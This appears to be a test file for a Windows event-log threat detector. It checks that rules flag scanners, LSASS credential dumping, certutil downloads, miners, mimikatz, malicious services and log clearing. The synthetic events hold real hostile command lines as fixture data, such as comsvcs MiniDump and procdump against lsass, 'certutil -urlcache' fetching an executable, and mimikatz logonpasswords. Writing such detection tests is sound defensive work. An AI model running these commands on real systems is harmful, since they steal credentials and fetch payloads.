import { test } from 'node:test';
import assert from 'node:assert/strict';
import { avAlert, classify, credentialAccess, defenseEvasion, execution, persistence } from '../../../src/detectors/host/index.js';
import { EventBuilder, run, T0 } from './builder.js';

test('catalog: tools by name and command line, masquerading, benign processes', () => {
  const cats = (img: string, cmd = '') => classify(img, cmd).map((h) => h.rule);
  assert.ok(cats('C:\\Users\\a\\Downloads\\masscan.exe', 'masscan -p445 10.0.0.0/8').includes('scanner'));
  assert.ok(cats('C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full').includes('lsass-dump'));
  assert.ok(cats('C:\\t\\procdump64.exe', 'procdump64.exe -accepteula -ma lsass.exe out.dmp').includes('lsass-dump'));
  assert.ok(cats('C:\\Windows\\System32\\certutil.exe', 'certutil -urlcache -split -f http://x/y.exe y.exe').includes('downloader'));
  assert.ok(cats('C:\\ProgramData\\svchost.exe').includes('masquerade-system-name'));
  assert.ok(cats('C:\\Users\\a\\Downloads\\syste64.exe').includes('masquerade-lookalike'));
  assert.deepEqual(cats('C:\\Windows\\System32\\svchost.exe', 'svchost.exe -k netsvcs'), []);
  assert.deepEqual(cats('C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'chrome.exe --type=renderer'), []);
});

test('services: Metasploit psexec and getsystem are reported, ordinary services are not', () => {
  const b = new EventBuilder();
  const sys = { provider: 'Service Control Manager', channel: 'System' };
  const evs = [
    b.ev('7045', T0, { ServiceName: 'KgXItsbKgTJzdzwl', ImagePath: '%SYSTEMROOT%\\duKhLYUX.exe', ServiceType: 'user mode service', StartType: 'demand start', AccountName: 'LocalSystem' }, sys),
    b.ev('7045', T0 + 1, { ServiceName: 'hgabms', ImagePath: 'cmd.exe /c echo hgabms > \\\\.\\pipe\\hgabms', AccountName: 'LocalSystem' }, sys),
    b.ev('7045', T0 + 2, { ServiceName: 'VMware Tools', ImagePath: '"C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe"', AccountName: 'LocalSystem' }, sys),
    b.ev('4698', T0 + 3, { TaskName: '\\Updater', TaskContent: '<Task><Actions><Exec><Command>C:\\Users\\Public\\host.exe</Command></Exec></Actions></Task>', SubjectUserName: 'x', SubjectLogonId: '0x1' }),
  ];
  const fs = run([persistence], evs);
  const names = fs.map((f) => f.facts?.name).sort();
  assert.deepEqual(names, ['KgXItsbKgTJzdzwl', '\\Updater', 'hgabms']);
  assert.ok(fs.find((f) => f.facts?.name === 'hgabms')?.attack.includes('T1134.001'));
  assert.ok(fs.find((f) => f.facts?.name === '\\Updater')?.attack.includes('T1053.005'));
  assert.equal(fs.find((f) => f.facts?.name === '\\Updater')?.severity, 'high');
});

test('processes and Sysmon: tools, mining pools, drops; credential dumping goes to credential-access', () => {
  const b = new EventBuilder();
  const sm = { provider: 'Microsoft-Windows-Sysmon', channel: 'Microsoft-Windows-Sysmon/Operational' };
  const evs = [
    b.ev('1', T0, { Image: 'C:\\Users\\a\\Desktop\\x.exe', OriginalFileName: 'xmrig.exe', CommandLine: 'x.exe --donate-level 1', LogonId: '0x1', User: 'A\\a' }, sm),
    b.ev('3', T0 + 1, { Image: 'C:\\Users\\a\\Desktop\\x.exe', DestinationIp: '198.51.100.1', DestinationPort: '3333', DestinationHostname: 'pool.supportxmr.com', Initiated: 'true' }, sm),
    b.ev('11', T0 + 2, { Image: 'C:\\Windows\\explorer.exe', TargetFilename: 'C:\\Users\\a\\Downloads\\Downloads.rar' }, sm),
    b.ev('10', T0 + 3, { SourceImage: 'C:\\Users\\a\\Desktop\\m.exe', TargetImage: 'C:\\Windows\\system32\\lsass.exe', GrantedAccess: '0x1010', CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|UNKNOWN(00000000001C0C5B)' }, sm),
    b.ev('10', T0 + 4, { SourceImage: 'C:\\Program Files\\Windows Defender\\MsMpEng.exe', TargetImage: 'C:\\Windows\\system32\\lsass.exe', GrantedAccess: '0x1010' }, sm),
    b.ev('4688', T0 + 5, { NewProcessName: 'C:\\t\\mimikatz.exe', CommandLine: 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit', SubjectLogonId: '0x1' }),
  ];
  const ex = run([execution], evs);
  assert.ok(ex.some((f) => f.facts?.rule === 'miner' && f.severity === 'critical'), 'renamed miner by OriginalFileName');
  assert.ok(ex.some((f) => f.facts?.rule === 'mining-pool-connection'));
  assert.ok(ex.some((f) => f.facts?.rule === 'dropped-in-user-folder'));
  assert.ok(!ex.some((f) => f.attack.some((a) => a.startsWith('T1003'))));
  const cr = run([credentialAccess], evs);
  assert.deepEqual(cr.map((f) => f.facts?.rule).sort(), ['lsass-access', 'mimikatz']);
  assert.equal(cr.find((f) => f.facts?.rule === 'lsass-access')?.severity, 'critical');
});

test('log clearing, event log service disabled, Defender detections', () => {
  const b = new EventBuilder();
  const evs = [
    b.ev('1102', T0, { SubjectUserName: 'x', SubjectDomainName: 'D', SubjectLogonId: '0x1' }, { provider: 'Microsoft-Windows-Eventlog' }),
    b.ev('104', T0 + 1, { SubjectUserName: 'x', Channel: 'System' }, { provider: 'Microsoft-Windows-Eventlog', channel: 'System' }),
    b.ev('7040', T0 + 2, { param1: 'Windows Event Log', param2: 'auto start', param3: 'disabled', param4: 'EventLog' }, { provider: 'Service Control Manager', channel: 'System' }),
    b.ev('7040', T0 + 3, { param1: 'Background Intelligent Transfer Service', param2: 'auto start', param3: 'demand start' }, { provider: 'Service Control Manager', channel: 'System' }),
  ];
  const fs = run([defenseEvasion], evs);
  assert.deepEqual(fs.map((f) => f.facts?.rule).sort(), ['eventlog-disabled', 'log-cleared', 'log-cleared']);
  const def = { provider: 'Microsoft-Windows-Windows Defender', channel: 'Microsoft-Windows-Windows Defender/Operational' };
  const av = run([avAlert], [
    b.ev('1116', T0, { 'Threat Name': 'Trojan:Win32/CoinMiner!bit', 'Severity Name': 'Severe', Path: 'file:_C:\\Users\\a\\syste64.exe', 'Detection User': 'A\\a' }, def),
    b.ev('1117', T0 + 1, { 'Threat Name': 'Trojan:Win32/CoinMiner!bit', 'Severity Name': 'Severe', Path: 'file:_C:\\Users\\a\\syste64.exe', 'Action Name': 'Quarantine' }, def),
    b.ev('1116', T0 + 2, { 'Threat Name': 'HackTool:Win32/Mimikatz', 'Severity Name': 'High', Path: 'file:_C:\\t\\mz64.exe' }, def),
  ]);
  assert.equal(av.length, 2);
  const miner = av.find((f) => f.attack.includes('T1496'));
  assert.equal(miner?.severity, 'critical');
  assert.equal(miner?.outcome, 'failed');
  assert.equal(miner?.facts?.path, 'C:\\Users\\a\\syste64.exe');
  assert.equal(av.find((f) => f.attack.includes('T1003'))?.outcome, 'succeeded');
});

test('boot configuration (4826): test signing / integrity checks off and kernel debugging are reported; a default boot is not', () => {
  const b = new EventBuilder();
  const boot = (over: Record<string, string>) => ({ SubjectUserSid: 'S-1-5-18', SubjectLogonId: '0x3e7', LoadOptions: '-', KernelDebug: '%%1843', TestSigning: '%%1843', FlightSigning: '%%1843', DisableIntegrityChecks: '%%1843', HypervisorDebug: '%%1843', ...over });
  const quiet = run([defenseEvasion], [b.ev('4826', T0, boot({}))]);
  assert.equal(quiet.length, 0);
  const debugOn = b.ev('4826', T0, boot({ KernelDebug: '%%1842' }));
  const signingOff = b.ev('4826', T0 + 1000, boot({ TestSigning: '%%1842', DisableIntegrityChecks: '%%1842' }));
  const fs = run([defenseEvasion], [debugOn, signingOff]);
  const sign = fs.find((f) => f.facts?.rule === 'boot-code-integrity-off');
  assert.deepEqual(sign?.attack, ['T1553.006']);
  assert.deepEqual(sign?.facts?.settings, ['TestSigning', 'DisableIntegrityChecks']);
  assert.deepEqual(sign?.evidence.map((r) => r.record), [signingOff.ref.record]);
  assert.ok(sign?.summary.zh.includes('驱动签名'));
  const dbg = fs.find((f) => f.facts?.rule === 'boot-kernel-debug');
  assert.deepEqual(dbg?.evidence.map((r) => r.record), [debugOn.ref.record]);
});
